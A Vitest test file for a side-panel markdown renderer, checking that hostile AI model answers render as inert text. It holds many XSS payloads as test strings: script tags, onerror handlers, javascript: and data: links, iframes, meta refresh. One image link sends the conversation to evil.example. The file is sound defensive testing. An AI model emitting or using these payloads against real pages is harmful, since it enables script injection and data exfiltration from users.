// @vitest-environment jsdom
/** Hostile model answers must render as inert HTML: no script, no remote loads, no navigation of the panel. */
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../lib/panel/markdown.ts';

function render(md: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = renderMarkdown(md);
  return div;
}

const everyAttribute = (root: HTMLElement) =>
  Array.from(root.querySelectorAll('*')).flatMap((el) => Array.from(el.attributes).map((a) => [el.tagName, a.name, a.value]));

describe('renderMarkdown', () => {
  it('renders ordinary markdown', () => {
    const root = render('# Title\n\nSome **bold** and `code`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(root.querySelector('h1')?.textContent).toBe('Title');
    expect(root.querySelector('strong')?.textContent).toBe('bold');
    expect(root.querySelector('code')?.textContent).toBe('code');
    expect(root.querySelectorAll('li')).toHaveLength(2);
    expect(root.querySelector('td')?.textContent).toBe('1');
  });

  it('renders a half-streamed answer without throwing', () => {
    const root = render('Here is a list:\n\n- first\n- sec');
    expect(root.querySelectorAll('li')).toHaveLength(2);
    expect(render('```js\nconst a = 1').querySelector('pre code')?.textContent).toContain('const a = 1');
  });

  it('shows raw HTML from the model as text, not markup', () => {
    const root = render('Use <script>alert(1)</script> and <b onclick="x()">bold</b> here.');
    expect(root.querySelector('script')).toBeNull();
    expect(root.querySelector('b')).toBeNull();
    expect(root.textContent).toContain('<script>alert(1)</script>');
    const block = render('<div>\n<img src=x onerror=alert(1)>\n</div>');
    expect(block.querySelector('img, div')).toBeNull();
    expect(block.textContent).toContain('<img src=x onerror=alert(1)>');
  });

  it.each([
    ['javascript link', '[click](javascript:alert(1))'],
    ['javascript link with entity tricks', '[click](jav&#x09;ascript:alert(1))'],
    ['javascript link with case and spaces', '[click]( JaVaScRiPt:alert(1) )'],
    ['data link', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['vbscript link', '[click](vbscript:msgbox(1))'],
    ['relative link into the extension', '[click](sidepanel.html)'],
    ['protocol-relative link', '[click](//evil.example/x)'],
    ['fragment link', '[click](#settings)'],
    ['reference-style javascript link', '[click][x]\n\n[x]: javascript:alert(1)'],
    ['autolinked javascript', '<javascript:alert(1)>'],
  ])('removes the target of a %s', (_name, md) => {
    const root = render(md);
    // The words stay readable; only the target is gone.
    expect(root.textContent).toMatch(/click|javascript/);
    for (const a of Array.from(root.querySelectorAll('a'))) expect(a.hasAttribute('href')).toBe(false);
    expect(root.innerHTML).not.toMatch(/href=/i);
  });

  it('opens safe links in a new tab without an opener', () => {
    const root = render('[docs](https://example.com/a?b=1) and <mailto:me@example.com> and https://x.example');
    const links = Array.from(root.querySelectorAll('a'));
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://example.com/a?b=1',
      'mailto:me@example.com',
      'https://x.example',
    ]);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('drops remote images, which would let a page exfiltrate the conversation', () => {
    const root = render('![secret](https://evil.example/log?q=conversation) ![x](//evil.example/p.png) ![y](/local.png)');
    expect(root.querySelector('img')).toBeNull();
    expect(root.textContent).toContain('[image: secret]');
    expect(root.innerHTML).not.toContain('evil.example');
  });

  it('keeps inline data images but not SVG ones', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    expect(render(`![dot](${png})`).querySelector('img')?.getAttribute('src')).toBe(png);
    expect(render('![svg](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)').querySelector('img')).toBeNull();
  });

  it('never emits event handlers, styles, ids, classes, frames, forms or scripts', () => {
    const hostile = [
      '[x](https://a.example "t" onmouseover="alert(1)")',
      '![x](data:image/png;base64,AA== "t"onerror="alert(1)")',
      '```html\n<script>alert(1)</script>\n```',
      '<iframe src="https://evil.example"></iframe>',
      '<form action="https://evil.example"><input name=a></form>',
      '<style>body{display:none}</style>',
      '<object data="x"></object><embed src="x">',
      '<svg><script>alert(1)</script></svg>',
      '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
      '<a href="javascript:alert(1)" id="settings" class="notice" style="position:fixed">spoof</a>',
      '- [ ] task',
    ].join('\n\n');
    const root = render(hostile);
    for (const tag of ['script', 'iframe', 'form', 'input', 'style', 'object', 'embed', 'svg', 'math', 'meta']) {
      expect(root.querySelector(tag), tag).toBeNull();
    }
    for (const [tag, name, value] of everyAttribute(root)) {
      expect(name, `${tag} ${name}=${value}`).toMatch(/^(href|title|alt|src|align|start|target|rel)$/);
      expect(value, `${tag} ${name}`).not.toMatch(/javascript:|evil\.example/i);
    }
    // The code block still shows what the model wrote, as text.
    expect(root.querySelector('pre code')?.textContent).toContain('<script>alert(1)</script>');
  });
});

describe('answers cannot restyle, hide or redirect the panel', () => {
  it.each([
    ['a style element', '<style>.ask{display:none}</style>'],
    ['a style element in a code-less block', '\n\n<style>\nbody { visibility: hidden }\n</style>\n\n'],
    ['a stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['a base element', '<base href="https://evil.example/">'],
    ['a template', '<template><style>*{display:none}</style></template>'],
  ])('%s becomes text, never an element', (_name, md) => {
    const root = render(`Before.\n\n${md}\n\nAfter.`);
    for (const tag of ['style', 'link', 'meta', 'base', 'template']) expect(root.querySelector(tag), tag).toBeNull();
    expect(root.textContent).toContain('After.');
    for (const [tag, name] of everyAttribute(root)) expect(name, `${tag} ${name}`).not.toMatch(/^(style|class|id)$/);
  });

  it.each([
    ['an unclosed raw tag', 'Look: <div><table><tr><td>cell'],
    ['an unclosed code fence', '```\nconst a = 1;'],
    ['an unclosed list and emphasis', '- one\n- **two'],
    ['a stray closing tag', '</div></article></section> then text'],
    ['an unclosed comment', 'Text <!-- and the rest'],
  ])('%s stays inside its own answer', (_name, md) => {
    const html = renderMarkdown(md);
    // Balanced: parsing and serialising again changes nothing, so nothing is left open for what follows.
    const probe = document.createElement('div');
    probe.innerHTML = html;
    expect(probe.innerHTML).toBe(html);
    // Two answers side by side as the log shows them: the second stays a sibling, with its own text.
    const log = document.createElement('div');
    log.innerHTML = `<div class="answer">${html}</div><div class="answer">${renderMarkdown('Second answer.')}</div>`;
    const answers = log.querySelectorAll(':scope > .answer');
    expect(answers).toHaveLength(2);
    expect(answers[1]!.textContent?.trim()).toBe('Second answer.');
    expect(answers[0]!.textContent).not.toContain('Second answer.');
  });
});
